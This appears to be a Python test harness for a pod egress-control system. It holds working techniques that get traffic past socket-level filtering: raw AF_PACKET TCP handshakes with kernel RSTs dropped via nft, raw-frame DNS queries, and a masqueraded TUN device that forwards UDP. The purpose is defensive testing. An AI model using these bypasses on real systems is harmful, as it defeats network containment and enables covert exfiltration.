#!/usr/bin/env python3
"""Attacks that put packets on a pod's wire past every socket hook (issue:
the pod's veth). Each prints one JSON object saying what it did; whether
anything got out is decided at the target (listen.py, the resolver's log).

  wire.py packet-tcp IFACE GW_MAC SRC DST PORT
      A user-space TCP connection over AF_PACKET (CAP_NET_RAW): the
      kernel's RSTs for it are dropped (nft, CAP_NET_ADMIN), a SYN is
      written as a frame, the SYN-ACK read off the wire, the handshake
      completed and data sent, all without a socket of the kernel's.
  wire.py packet-dns IFACE GW_MAC SRC RESOLVER NAME
      A DNS query for NAME as a raw Ethernet frame to RESOLVER:53; reports
      whether an answer frame came back and its rcode.
  wire.py tun-forward DST PORT N
      A TUN device (CAP_NET_ADMIN) with forwarding on and the pod's address
      masqueraded (nft): N UDP datagrams written into the TUN as if from
      10.99.0.2 are forwarded out of eth0 by the kernel, no socket at all.
"""

import fcntl
import json
import os
import random
import socket
import struct
import subprocess
import sys
import time


def out(**kw):
    print(json.dumps(kw), flush=True)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(src, dst, proto, payload):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.randrange(65536), 0, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload


def l4_csum(src, dst, proto, seg):
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, proto, len(seg))
    return csum(pseudo + seg)


def udp(src, dst, sport, dport, payload):
    seg = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    c = l4_csum(src, dst, 17, seg) or 0xFFFF
    return ipv4(src, dst, 17, seg[:6] + struct.pack("!H", c) + seg[8:])


def tcp(src, dst, sport, dport, seq, ack, flags, payload=b""):
    seg = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0) + payload
    c = l4_csum(src, dst, 6, seg)
    return ipv4(src, dst, 6, seg[:16] + struct.pack("!H", c) + seg[18:])


def packet_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((iface, 0))
    # The interface's own MAC (SIOCGIFHWADDR), not /sys (another namespace's).
    own = fcntl.ioctl(s.fileno(), 0x8927, struct.pack("256s", iface.encode()[:15]))[18:24]
    return s, own


def frames_for(s, want, secs):
    """Frames read off the socket until `want(ip)` holds or `secs` pass."""
    s.settimeout(0.2)
    end = time.time() + secs
    while time.time() < end:
        try:
            frame = s.recv(65535)
        except socket.timeout:
            continue
        ip = frame[14:]
        if len(ip) >= 20 and want(ip):
            return ip
    return None


def packet_tcp(iface, gw_mac, src, dst, port):
    port = int(port)
    # The kernel has no socket for our port: it would answer the SYN-ACK
    # with a RST and end the connection at the server.
    rules = "add table inet wire; add chain inet wire out { type filter hook output priority 0; }; " \
            "add rule inet wire out tcp flags rst drop"
    subprocess.run(["nft", rules], check=True)
    s, own = packet_socket(iface)
    mac = bytes.fromhex(gw_mac.replace(":", ""))
    send = lambda ip: s.send(mac + own + b"\x08\x00" + ip)  # noqa: E731
    sport, isn = random.randrange(40000, 60000), random.randrange(1 << 32)
    steps = {}
    for attempt in range(3):
        send(tcp(src, dst, sport, port, isn, 0, 0x02))
        steps["syn"] = attempt + 1
        synack = frames_for(s, lambda ip: ip[9] == 6 and ip[12:16] == socket.inet_aton(dst)
                            and struct.unpack("!HH", ip[20:24]) == (port, sport) and ip[33] & 0x12 == 0x12, 1.0)
        if synack:
            break
    if not synack:
        out(syn_ack=False, **steps)
        return
    server_isn = struct.unpack("!I", synack[24:28])[0]
    data = b"portcullis-user-space-tcp"
    send(tcp(src, dst, sport, port, isn + 1, server_isn + 1, 0x10))
    send(tcp(src, dst, sport, port, isn + 1, server_isn + 1, 0x18, data))
    out(syn_ack=True, sent=len(data), **steps)


def dns_query(name):
    q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", 1, 1)


def packet_dns(iface, gw_mac, src, resolver, name):
    s, own = packet_socket(iface)
    mac = bytes.fromhex(gw_mac.replace(":", ""))
    sport = random.randrange(40000, 60000)
    s.send(mac + own + b"\x08\x00" + udp(src, resolver, sport, 53, dns_query(name)))
    ans = frames_for(s, lambda ip: ip[9] == 17 and struct.unpack("!HH", ip[20:24]) == (53, sport), 2.0)
    if ans is None:
        out(sent=True, answer=False)
        return
    dns = ans[28:]
    out(sent=True, answer=True, src=socket.inet_ntoa(ans[12:16]), rcode=dns[3] & 0xF, answers=struct.unpack("!H", dns[6:8])[0])


TUNSETIFF = 0x400454CA


def tun_forward(dst, port, n):
    if not os.path.exists("/dev/net/tun"):
        # A kernel with TUN as a module (Debian's): load it; a /dev without
        # the node (a VM's): make it (misc 10:200).
        subprocess.run(["modprobe", "tun"], check=False)
        if not os.path.exists("/dev/net/tun"):
            os.makedirs("/dev/net", exist_ok=True)
            os.mknod("/dev/net/tun", 0o666 | 0o020000, os.makedev(10, 200))
    fd = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(fd, TUNSETIFF, struct.pack("16sH", b"pcwire0", 0x0001 | 0x1000))  # IFF_TUN | IFF_NO_PI
    for cmd in (["ip", "addr", "add", "10.99.0.1/24", "dev", "pcwire0"], ["ip", "link", "set", "pcwire0", "up"]):
        subprocess.run(cmd, check=True)
    with open("/proc/sys/net/ipv4/ip_forward", "w") as f:
        f.write("1")
    rules = "add table ip wire; add chain ip wire post { type nat hook postrouting priority 100; }; " \
            "add rule ip wire post oifname eth0 masquerade"
    subprocess.run(["nft", rules], check=True)
    sent = 0
    for _ in range(int(n)):
        os.write(fd, udp("10.99.0.2", dst, 41000, int(port), b"portcullis-tun"))
        sent += 1
        time.sleep(0.02)
    out(sent=sent)


MODES = {"packet-tcp": packet_tcp, "packet-dns": packet_dns, "tun-forward": tun_forward}

if __name__ == "__main__":
    MODES[sys.argv[1]](*sys.argv[2:])
